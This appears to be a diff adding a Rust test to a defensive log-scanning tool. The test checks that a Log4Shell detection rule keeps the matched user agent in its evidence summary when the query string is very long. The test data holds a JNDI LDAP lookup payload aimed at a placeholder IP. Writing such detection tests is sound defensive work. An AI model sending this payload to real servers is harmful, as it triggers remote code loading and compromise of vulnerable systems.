@@ -964,6 +964,27 @@ fn a_long_matched_value_is_cut() {
     assert_eq!(value.len(), 4096 + '…'.len_utf8());
 }
 
+/// A request whose long query would push the matched user agent past the
+/// evidence line's cut gives way: the line shows the agent.
+#[test]
+fn a_long_query_gives_way_to_the_matched_agent() {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let query = format!("q={}", "a".repeat(2_000));
+    let log = format!(
+        "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\r\n\
+         2025-01-01 10:00:00 GET /search {query} 203.0.113.7 ${{jndi:ldap://203.0.113.7/a}} 200\r\n"
+    );
+    let path = dir.path().join("u_ex250101.log");
+    std::fs::write(&path, log).expect("writes");
+    let report = run(&[path], bundled());
+    let log4shell =
+        report.detections.iter().find(|d| d.rule.meta.title.contains("Log4Shell")).expect("detected");
+    let summary = &log4shell.evidence.summary;
+    assert!(summary.starts_with("GET /search?q=aaa"), "{summary}");
+    assert!(summary.contains("; c-useragent=${jndi:ldap://203.0.113.7/a}"), "{summary}");
+    assert!(summary.len() <= 404, "{}", summary.len());
+}
+
 /// A module installed behind IIS shows in every trace IIS saves afterwards:
 /// the backdoor scenario's traces name it, and no real trace's pipeline
 /// (URL Rewrite, ANCM, ARR, ModSecurity, SiteMinder, App Service's modules)
